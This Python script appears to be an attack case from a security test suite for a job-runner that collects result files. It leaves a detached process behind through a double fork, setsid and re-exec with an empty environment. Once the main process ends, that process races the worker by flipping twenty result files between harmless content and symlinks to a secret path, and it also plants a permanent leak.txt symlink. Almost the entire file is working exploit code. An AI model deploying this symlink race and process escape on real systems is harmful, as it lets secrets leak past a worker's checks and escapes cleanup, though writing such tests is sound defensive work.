"""Attacks 3 and 4: leave a process behind (double fork, setsid, re-exec with
an empty environment) that, once the job's main process is gone, turns the
job's results out00..out19.txt into symlinks to SECRET (on and off, at random,
every few ms), and adds leak.txt -> SECRET.

argv: SECRET MARK
"""
import os
import sys

CHILD = r'''
import os, sys, time
secret, mark, main_pid, cwd = sys.argv[1:5]
os.chdir(cwd)
def gone(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] in ("Z", "X")
    except OSError:
        return True
while not gone(main_pid):
    time.sleep(0.002)
# leak.txt: a symlink for good. out00..out19.txt: each flips at random between
# the harmless file and a symlink to the secret every few ms, so that the worker
# may find a regular file when it lists results and a symlink when it opens one.
import random
names = [f"out{i:02d}.txt" for i in range(20)]
end = time.monotonic() + 30
while time.monotonic() < end:
    try:
        if not os.path.islink("leak.txt"):
            os.symlink(secret, "leak.tmp")
            os.rename("leak.tmp", "leak.txt")
    except OSError:
        pass
    for name in names:
        try:
            if random.random() < 0.5:
                os.symlink(secret, name + ".tmp")
            else:
                with open(name + ".tmp", "w") as f:
                    f.write("harmless result\n")
            os.rename(name + ".tmp", name)
        except OSError:
            pass
    time.sleep(0.003)
'''

secret, mark = sys.argv[1], sys.argv[2]
for i in range(20):
    with open(f"out{i:02d}.txt", "w") as f:
        f.write("harmless result\n")
main = os.getpid()
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    # keeps stdout/stderr: the worker waits a moment for the pipes after the exit
    os.execve(sys.executable, [sys.executable, "-c", CHILD, secret, mark, str(main), os.getcwd()], {})
os.waitpid(pid, 0)
print("main process done", flush=True)
